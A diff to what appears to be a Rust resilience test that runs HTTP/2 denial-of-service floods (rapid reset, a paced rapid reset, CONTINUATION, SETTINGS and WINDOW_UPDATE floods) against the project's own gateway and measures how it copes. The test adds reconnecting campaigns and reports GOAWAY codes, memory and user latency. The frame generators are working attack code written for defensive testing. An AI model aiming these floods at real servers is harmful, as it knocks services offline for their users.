@@ -2,8 +2,10 @@
 //! while 64 normal users browse.
 //!
 //! - **rapid reset** (CVE-2023-44487): HEADERS of a request to a public route, then at once
-//!   RST_STREAM(CANCEL), on stream after stream: each costs the client two frames and the
-//!   server a request it may already have started.
+//!   RST_STREAM(CANCEL), stream after stream, written back to back: each costs the client two
+//!   frames and the server a request it may already have started.
+//! - **paced rapid reset**: the same, 100 HEADERS at a time, their 100 RST_STREAMs 2 ms later,
+//!   so that the server has taken the requests up (and started them) before they are reset.
 //! - **CONTINUATION flood** (CVE-2024-27316 class): HEADERS without END_HEADERS, then
 //!   CONTINUATION frames of header literals that never end the block: a server that buffers
 //!   the block until it ends buffers for ever.
@@ -11,14 +13,17 @@
 //!   the ACKs the server owes pile up.
 //! - **WINDOW_UPDATE flood**: a million connection WINDOW_UPDATEs of increment 1.
 //!
-//! Each attack runs for at most [`ATTACK`] on its own connection, with its own load of users
-//! (a short warm-up, the attack, a second after it), and a control run with no attack comes
-//! first. A row per attack says what the gateway did to the attacker (GOAWAY and its error
-//! code, the close, after how many frames and how long, or that it stopped reading) and what
-//! it cost (the gateway's RSS, the users' p99). Pass, for each: the gateway still runs, every
-//! user request in the attack's run was answered as it should be, `/healthz` answers 200, and
-//! the gateway's RSS grew by at most [`RSS_GROWTH_LIMIT_MIB`] during the attack.
+//! Each attack lasts [`ATTACK`]: when the gateway cuts the attacker off, it connects again and
+//! goes on, as a real one would (the WINDOW_UPDATE flood stops at its million frames). Each has
+//! its own load of users (a short warm-up, the attack, a second after it), and a control run
+//! with no attack comes first. A row per attack says what the gateway did to the attacker
+//! (GOAWAY and its error code, the close, after how many frames and how long, or that it
+//! stopped reading) and what it cost (the gateway's RSS, the users' p99 against the control's).
+//! Pass, for each: the gateway still runs, every user request in the attack's window was
+//! answered as it should be, `/healthz` answers 200, and the gateway's RSS grew by at most
+//! [`RSS_GROWTH_LIMIT_MIB`] during the attack.
 
+use std::collections::BTreeMap;
 use std::net::{IpAddr, Ipv4Addr};
 use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
 use std::sync::{Arc, Mutex};
@@ -38,8 +43,10 @@ const USERS: LoadSpec = LoadSpec {
     think: Duration::from_millis(20),
 };
 const WARM: Duration = Duration::from_secs(2);
-/// The longest an attack runs.
+/// How long an attack lasts.
 const ATTACK: Duration = Duration::from_secs(5);
+/// The most connections one attack opens.
+const MAX_CONNECTIONS: usize = 2_000;
 const AFTER: Duration = Duration::from_secs(1);
 /// A write that waits longer than this: the gateway has stopped reading the attacker.
 const STALL: Duration = Duration::from_secs(1);
@@ -51,15 +58,22 @@ enum Flood {
     /// The control run: the users alone.
     None,
     RapidReset,
+    RapidResetPaced,
     Continuation,
     Settings,
     WindowUpdate,
 }
 
+/// Streams per round of the paced rapid reset (under the gateway's 256 concurrent streams).
+const PACED_ROUND: u64 = 100;
+/// HEADERS frames one batch carries in the paced rapid reset, and the pause before its resets.
+const PACED_PAUSE: Duration = Duration::from_millis(2);
+
 impl Flood {
-    const ALL: [Flood; 5] = [
+    const ALL: [Flood; 6] = [
         Flood::None,
         Flood::RapidReset,
+        Flood::RapidResetPaced,
         Flood::Continuation,
         Flood::Settings,
         Flood::WindowUpdate,
@@ -68,26 +82,37 @@ impl Flood {
         match self {
             Flood::None => "control",
             Flood::RapidReset => "rapid-reset",
+            Flood::RapidResetPaced => "paced-reset",
             Flood::Continuation => "continuation",
             Flood::Settings => "settings",
             Flood::WindowUpdate => "window-update",
         }
     }
-    /// The most frames the attack sends.
+    /// The most frames the attack sends, over all its connections.
     fn max_frames(self) -> u64 {
         match self {
             Flood::None => 0,
-            Flood::RapidReset => 200_000,
-            Flood::Continuation => 1_000_000,
-            Flood::Settings => 100_000,
             Flood::WindowUpdate => 1_000_000,
+            _ => u64::MAX,
         }
     }
     /// Whether the attacker reads the socket while it sends (the SETTINGS flood does not).
     fn reads(self) -> bool {
         self != Flood::Settings
     }
-    /// Frames `n..n + count` of the attack, as bytes.
+    /// Frames in one write.
+    fn per_batch(self) -> u64 {
+        match self {
+            Flood::WindowUpdate => 1_000,
+            Flood::RapidResetPaced => PACED_ROUND,
+            _ => 100,
+        }
+    }
+    /// The pause after the batch that starts at frame `n`.
+    fn pause_after(self, n: u64) -> Option<Duration> {
+        (self == Flood::RapidResetPaced && (n / PACED_ROUND) % 2 == 0).then_some(PACED_PAUSE)
+    }
+    /// Frames `n..n + count` of the attack on one connection, as bytes.
     fn batch(self, n: u64, count: u64, out: &mut Vec<u8>) {
         for k in n..n + count {
             match self {
@@ -96,13 +121,19 @@ impl Flood {
                     // Two frames per stream: HEADERS on even k, RST_STREAM on odd k.
                     let stream = 1 + 2 * (k / 2) as u32;
                     if k % 2 == 0 {
-                        let block =
-                            H2::request_block("GET", "/public/rapid-reset", "localhost", &[]);
-                        let flags = frame::END_STREAM | frame::END_HEADERS;
-                        out.extend(frame_bytes(frame::HEADERS, flags, stream, &block));
+                        rapid_reset_headers(stream, out);
                     } else {
-                        let code = frame::CANCEL.to_be_bytes();
-                        out.extend(frame_bytes(frame::RST_STREAM, 0, stream, &code));
+                        reset(stream, out);
+                    }
+                }
+                Flood::RapidResetPaced => {
+                    // Rounds of PACED_ROUND HEADERS, then their PACED_ROUND RST_STREAMs.
+                    let (round, j) = (k / (2 * PACED_ROUND), k % (2 * PACED_ROUND));
+                    let stream = 1 + 2 * (round * PACED_ROUND + j % PACED_ROUND) as u32;
+                    if j < PACED_ROUND {
+                        rapid_reset_headers(stream, out);
+                    } else {
+                        reset(stream, out);
                     }
                 }
                 Flood::Continuation if k == 0 => {
@@ -110,6 +141,7 @@ impl Flood {
                     out.extend(frame_bytes(frame::HEADERS, frame::END_STREAM, 1, &block));
                 }
                 Flood::Continuation => {
+                    // One header literal per frame, `x-NNNNNN: a…a`, never END_HEADERS.
                     let mut lit = vec![0x00, 8];
                     lit.extend_from_slice(format!("x-{:06}", k % 1_000_000).as_bytes());
                     lit.push(48);
@@ -127,6 +159,23 @@ impl Flood {
             }
         }
     }
+}
+
+/// HEADERS (END_STREAM, END_HEADERS) of `GET /public/rapid-reset` on `stream`.
+fn rapid_reset_headers(stream: u32, out: &mut Vec<u8>) {
+    let block = H2::request_block("GET", "/public/rapid-reset", "localhost", &[]);
+    let flags = frame::END_STREAM | frame::END_HEADERS;
+    out.extend(frame_bytes(frame::HEADERS, flags, stream, &block));
+}
+
+/// RST_STREAM(CANCEL) on `stream`.
+fn reset(stream: u32, out: &mut Vec<u8>) {
+    out.extend(frame_bytes(
+        frame::RST_STREAM,
+        0,
+        stream,
+        &frame::CANCEL.to_be_bytes(),
+    ));
 }
 
 /// What the attacker saw of the gateway.
@@ -188,14 +237,16 @@ async fn read_frames(
             Ok(Ok(n)) => n,
         };
         buf.extend_from_slice(&chunk[..n]);
-        while buf.len() >= 9 {
-            let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
-            if buf.len() < 9 + len {
+        // Whole frames from the front, drained once per read (a flood of small frames).
+        let mut at = 0;
+        let mut s = wire.seen.lock().unwrap();
+        while buf.len() >= at + 9 {
+            let len = u32::from_be_bytes([0, buf[at], buf[at + 1], buf[at + 2]]) as usize;
+            if buf.len() < at + 9 + len {
                 break;
             }
-            let (kind, flags) = (buf[3], buf[4]);
-            let payload = &buf[9..9 + len];
-            let mut s = wire.seen.lock().unwrap();
+            let (kind, flags) = (buf[at + 3], buf[at + 4]);
+            let payload = &buf[at + 9..at + 9 + len];
             match kind {
                 frame::HEADERS => s.headers += 1,
                 frame::RST_STREAM => s.resets += 1,
@@ -209,14 +260,21 @@ async fn read_frames(
                 }
                 _ => {}
             }
-            drop(s);
-            buf.drain(..9 + len);
+            at += 9 + len;
         }
+        drop(s);
+        buf.drain(..at);
     }
 }
 
-/// Run `flood` on a fresh HTTP/2 connection for at most [`ATTACK`].
-async fn attack(gw: &Gateway, flood: Flood) -> Attacked {
+/// Run `flood` on a fresh HTTP/2 connection until `deadline`, the connection's end, or
+/// `budget` frames.
+async fn connection(
+    gw: &Gateway,
+    flood: Flood,
+    deadline: tokio::time::Instant,
+    budget: u64,
+) -> Attacked {
     let tls = tls_to(gw.https, gw.tls_config(&[b"h2"]), Some(ATTACKER))
         .await
         .expect("the attacker's TLS handshake");
@@ -228,7 +286,6 @@ async fn attack(gw: &Gateway, flood: Flood) -> Attacked {
         seen: Mutex::new(Seen::default()),
         done: AtomicBool::new(false),
     });
-    let deadline = tokio::time::Instant::now() + ATTACK;
     let (reader, unread) = if flood.reads() {
         let h = tokio::spawn(read_frames(r, wire.clone(), deadline + STALL));
         (Some(h), None)
@@ -236,11 +293,7 @@ async fn attack(gw: &Gateway, flood: Flood) -> Attacked {
         (None, Some(r))
     };
     let mut out = Attacked::default();
-    let per_batch = if flood == Flood::WindowUpdate {
-        1_000
-    } else {
-        100
-    };
+    let per_batch = flood.per_batch();
     let mut bytes = H2_PREFACE.to_vec();
     bytes.extend(frame_bytes(frame::SETTINGS, 0, 0, &[]));
     // When the write in progress began: one still blocked at the deadline is a stall too.
@@ -248,10 +301,10 @@ async fn attack(gw: &Gateway, flood: Flood) -> Attacked {
     let send = async {
         loop {
             let n = wire.sent.load(Ordering::Relaxed);
-            if wire.done.load(Ordering::SeqCst) || n >= flood.max_frames() {
+            if wire.done.load(Ordering::SeqCst) || n >= budget {
                 break;
             }
-            flood.batch(n, per_batch, &mut bytes);
+            flood.batch(n, per_batch.min(budget - n), &mut bytes);
             in_flight.set(Some(Instant::now()));
             let written = w.write_all(&bytes).await;
             let began = in_flight.take().unwrap();
@@ -260,8 +313,13 @@ async fn attack(gw: &Gateway, flood: Flood) -> Attacked {
                 break;
             }
             out.stalled |= began.elapsed() > STALL;
-            wire.sent.store(n + per_batch, Ordering::Relaxed);
+            wire.sent
+                .store(n + per_batch.min(budget - n), Ordering::Relaxed);
             bytes.clear();
+            if let Some(pause) = flood.pause_after(n) {
+                let _ = w.flush().await;
+                tokio::time::sleep(pause).await;
+            }
         }
         let _ = w.flush().await;
     };
@@ -276,7 +334,7 @@ async fn attack(gw: &Gateway, flood: Flood) -> Attacked {
         // The SETTINGS flood read nothing while it sent: now read for a while what the
         // gateway had for it.
         (None, Some(r)) => {
-            let until = tokio::time::Instant::now() + Duration::from_secs(2);
+            let until = tokio::time::Instant::now() + STALL;
             read_frames(r, wire.clone(), until).await;
         }
         (None, None) => {}
@@ -285,10 +343,84 @@ async fn attack(gw: &Gateway, flood: Flood) -> Attacked {
     out
 }
 
+/// One attack: connection after connection until [`ATTACK`] is over (or the frame budget).
+#[derive(Default)]
+struct Campaign {
+    conns: Vec<Attacked>,
+    took: Duration,
+}
+
+impl Campaign {
+    fn frames(&self) -> u64 {
+        self.conns.iter().map(|c| c.frames).sum()
+    }
+}
+
+async fn campaign(gw: &Gateway, flood: Flood) -> Campaign {
+    let t0 = Instant::now();
+    let deadline = tokio::time::Instant::now() + ATTACK;
+    let mut c = Campaign::default();
+    while tokio::time::Instant::now() < deadline
+        && c.frames() < flood.max_frames()
+        && c.conns.len() < MAX_CONNECTIONS
+    {
+        let budget = flood.max_frames() - c.frames();
+        c.conns.push(connection(gw, flood, deadline, budget).await);
+    }
+    c.took = t0.elapsed();
+    c
+}
+
+/// How a connection ended, in a few words (the GOAWAY's code and debug data).
+fn ending(a: &Attacked) -> String {
+    match (&a.seen.goaway, a.seen.closed) {
+        (Some((_, _, _, code, debug)), _) => {
+            let name = frame::error_name(*code);
+            if debug.is_empty() {
+                format!("GOAWAY {name}")
+            } else {
+                format!("GOAWAY {name} \"{debug}\"")
+            }
+        }
+        (None, Some(_)) => "closed without GOAWAY".to_string(),
+        (None, None) if a.stalled => "open, not read (writes blocked)".to_string(),
+        (None, None) => "open".to_string(),
+    }
+}
+
+/// What the gateway did to the first connection of an attack, in words.
+fn verdict(a: &Attacked) -> String {
+    let s = &a.seen;
+    let mut out = match (&s.goaway, s.closed) {
+        (Some((t, frames, last, _, _)), closed) => format!(
+            "{} (last stream {last}) {:.3} s after the handshake, {frames} frames sent; {}",
+            ending(a),
+            t.as_secs_f64(),
+            closed.map_or("connection still open".to_string(), |c| format!(
+                "closed at {:.3} s",
+                c.as_secs_f64()
+            ))
+        ),
+        (None, Some(c)) => format!("closed without GOAWAY at {:.3} s", c.as_secs_f64()),
+        (None, None) => format!(
+            "not cut off: still open at {:.2} s, {} frames sent",
+            a.sent_for.as_secs_f64(),
+            a.frames
+        ),
+    };
+    if a.stalled {
+        out.push_str("; it stopped reading the attacker (a write blocked > 1 s)");
+    }
+    if let Some(e) = &a.write_error {
+        out.push_str(&format!("; write failed: {e}"));
+    }
+    out
+}
+
 /// One attack's run: the attack, what the users got, what the gateway looked like.
 struct Run {
     flood: Flood,
-    attacked: Attacked,
+    campaign: Campaign,
     tally: Tally,
     rss_before: u64,
     rss_peak: u64,
@@ -296,9 +428,9 @@ struct Run {
     healthz: Option<u16>,
 }
 
-/// The attack with the gateway's RSS sampled every 100 ms while it lasts (the control run
-/// only waits [`ATTACK`]).
-async fn attack_sampled(gw: &Gateway, pid: u32, flood: Flood) -> (Attacked, u64) {
+/// The attack with the gateway's RSS sampled every 100 ms for [`ATTACK`] at least (the
+/// control run only waits).
+async fn attack_sampled(gw: &Gateway, pid: u32, flood: Flood) -> (Campaign, u64) {
     let peak = AtomicU64::new(procfs::rss_kib(pid).unwrap_or(0));
     let sampler = async {
         loop {
@@ -306,20 +438,23 @@ async fn attack_sampled(gw: &Gateway, pid: u32, flood: Flood) -> (Attacked, u64)
             tokio::time::sleep(Duration::from_millis(100)).await;
         }
     };
+    let until = tokio::time::Instant::now() + ATTACK;
     let run = async {
-        if flood == Flood::None {
-            tokio::time::sleep(ATTACK).await;
-            Attacked::default()
+        let c = if flood == Flood::None {
+            Campaign::default()
         } else {
-            attack(gw, flood).await
-        }
+            campaign(gw, flood).await
+        };
+        // Every attack's window is at least as long as the control's.
+        tokio::time::sleep_until(until).await;
+        c
     };
-    let attacked = tokio::select! {
-        a = run => a,
+    let c = tokio::select! {
+        c = run => c,
         () = sampler => unreachable!(),
     };
     peak.fetch_max(procfs::rss_kib(pid).unwrap_or(0), Ordering::Relaxed);
-    (attacked, peak.load(Ordering::Relaxed))
+    (c, peak.load(Ordering::Relaxed))
 }
 
 async fn healthz(gw: &Gateway) -> Option<u16> {
@@ -337,7 +472,7 @@ async fn run_one(gw: &Gateway, pid: u32, flood: Flood) -> Run {
     tokio::time::sleep(WARM).await;
     let rss_before = procfs::rss_kib(pid).unwrap_or(0);
     load.phase(Phase::Fault);
-    let (attacked, rss_peak) = attack_sampled(gw, pid, flood).await;
+    let (campaign, rss_peak) = attack_sampled(gw, pid, flood).await;
     load.phase(Phase::After);
     tokio::time::sleep(AFTER).await;
     let alive = procfs::alive(pid);
@@ -345,7 +480,7 @@ async fn run_one(gw: &Gateway, pid: u32, flood: Flood) -> Run {
     let tally = load.stop().await;
     Run {
         flood,
-        attacked,
+        campaign,
         tally,
         rss_before,
         rss_peak,
@@ -369,8 +504,9 @@ pub async fn h2_abuse() -> Report {
         tally.merge(r.tally.clone());
     }
     let mut report = Report::new(tally, &[], window).note(format!(
-        "{} users; each attack on its own HTTP/2 connection from {ATTACKER}, at most {} s; \
-         hyper's HTTP/2 server as the gateway configures it (src/server/conn.rs)",
+        "{} users; each attack for {} s from {ATTACKER}, reconnecting when cut off; the \
+         gateway's HTTP/2 server as src/server/conn.rs builds it (hyper, h2 defaults \
+         otherwise)",
         USERS.users,
         ATTACK.as_secs()
     ));
@@ -386,62 +522,52 @@ pub async fn h2_abuse() -> Report {
     report
 }
 
-/// What the gateway did to the attacker, in words.
-fn verdict(a: &Attacked) -> String {
-    let s = &a.seen;
-    let mut out = match (&s.goaway, s.closed) {
-        (Some((t, frames, last, code, debug)), closed) => format!(
-            "GOAWAY {} (last stream {last}{}) after {:.2} s, {frames} frames sent; {}",
-            frame::error_name(*code),
-            if debug.is_empty() {
-                String::new()
-            } else {
-                format!(", \"{debug}\"")
-            },
-            t.as_secs_f64(),
-            closed.map_or("connection still open".to_string(), |c| format!(
-                "closed after {:.2} s",
-                c.as_secs_f64()
-            ))
-        ),
-        (None, Some(c)) => format!("closed without GOAWAY after {:.2} s", c.as_secs_f64()),
-        (None, None) => format!(
-            "not cut off: still open after {:.2} s",
-            a.sent_for.as_secs_f64()
-        ),
-    };
-    if a.stalled {
-        out.push_str("; it stopped reading the attacker (a write blocked > 1 s)");
+/// How an attack's connections ended, e.g. `GOAWAY ENHANCE_YOUR_CALM "too_many_resets" ×812`.
+fn endings(c: &Campaign) -> String {
+    let mut by: BTreeMap<String, usize> = BTreeMap::new();
+    for a in &c.conns {
+        *by.entry(ending(a)).or_default() += 1;
     }
-    if let Some(e) = &a.write_error {
-        out.push_str(&format!("; write failed: {e}"));
-    }
-    out
+    by.iter()
+        .map(|(k, n)| format!("{k} ×{n}"))
+        .collect::<Vec<_>>()
+        .join(", ")
 }
 
 fn row(r: &Run, control_p99: Option<f64>) -> String {
     let ms = |v: Option<f64>| v.map_or("-".to_string(), |v| format!("{v:.1} ms"));
     let t = r.tally.phase(Phase::Fault);
-    let a = &r.attacked;
-    let attack = if r.flood == Flood::None {
-        "no attack".to_string()
-    } else {
-        format!(
-            "{} frames in {:.2} s: {}; it sent {} HEADERS, {} RST_STREAM, {} SETTINGS ACK",
-            a.frames,
-            a.sent_for.as_secs_f64(),
-            verdict(a),
-            a.seen.headers,
-            a.seen.resets,
-            a.seen.settings_acks
-        )
+    let c = &r.campaign;
+    let attack = match c.conns.first() {
+        None => "no attack".to_string(),
+        Some(first) => {
+            let mut per: Vec<u64> = c.conns.iter().map(|a| a.frames).collect();
+            per.sort_unstable();
+            let sum = |f: fn(&Seen) -> u64| c.conns.iter().map(|a| f(&a.seen)).sum::<u64>();
+            format!(
+                "{} frames on {} connections in {:.1} s (p50 {} frames per connection): \
+                 {}\n{:<15}first connection: {}\n{:<15}the gateway answered {} HEADERS, \
+                 {} RST_STREAM, {} SETTINGS ACK",
+                c.frames(),
+                c.conns.len(),
+                c.took.as_secs_f64(),
+                per[per.len() / 2],
+                endings(c),
+                "",
+                verdict(first),
+                "",
+                sum(|s| s.headers),
+                sum(|s| s.resets),
+                sum(|s| s.settings_acks),
+            )
+        }
     };
     let ratio = match (t.quantile_ms(0.99), control_p99) {
         (Some(p), Some(c)) if c > 0.0 && r.flood != Flood::None => format!(" (×{:.2})", p / c),
         _ => String::new(),
     };
     format!(
-        "{:<13} {attack}\n{:<15}gateway RSS {} → peak {}; users {} requests, {} ok, p99 {}{ratio}",
+        "{:<13}  {attack}\n{:<15}gateway RSS {} → peak {}; users {} requests, {} ok, p99 {}{ratio}",
         r.flood.name(),
         "",
         procfs::mib(r.rss_before),
